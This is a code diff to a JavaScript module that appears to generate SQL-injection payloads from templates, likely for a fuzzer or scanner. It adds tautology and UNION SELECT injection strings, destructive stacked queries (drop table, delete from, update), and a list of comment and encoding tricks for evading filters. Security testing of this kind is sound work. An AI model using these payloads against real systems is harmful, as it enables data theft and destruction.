@@ -3,6 +3,22 @@ import { lines } from './grammar.mjs'
 
 export const SQL = {
   sqli: lines`
+    §num§;§stack§
+    §num§;§stack§§cut§
+    §n§; §stack§§cut§
+    §val§;§stack§;
+    §val§\`;§stack§§cut§
+    §val§\` §w_or§ \`1\`=\`1
+    §val§\`) §bool§§cut§
+    §val§§q§;§stack§§cut§_§rnd§
+    §val§§q§/**/§w_or§/**/§q§§n§§q§=§q§§n§
+    §val§§q§%0b§w_or§%0b§cond§§cut§
+    §val§§q§||§q§1§q§=§q§1
+    §n§e0union select §cols§ from §table§
+    §val§§q§ §w_or§(1)=(1)§cut§
+    §val§§q§-0 §w_or§ §n§=§n§§cut§
+    §val§ union§blank§select §cols§ from §table§§cut§
+    §val§§q§ union§blank§all§blank§select §cols§§cut§
     §val§§out§ §bool§§cut§
     §val§§out§ §bool§§cut§
     §val§§out§ §union§§cut§
@@ -464,7 +480,13 @@ export const SQL = {
     or 1 group by concat(§info§,floor(rand(0)*2)) having min(0)
     and cast((chr(§num§)||chr(§num§))||(§sub§)::text||(chr(§num§)) as numeric)
   `,
+  blank: ['/**/', '%0a', '%0b', '%09', '--x%0a', '%23x%0a', '/*!*/', '%a0', '\n', '+', '(', '/*x*/'],
   stack: lines`
+    drop table §table§ cascade
+    drop/**/table/**/§table§
+    DROP TABLE §rnd§
+    delete from §rnd§
+    update §rnd§ set §col§=1
     drop table §table§
     drop database §rnd§
     insert into §table§ values (§cols§)
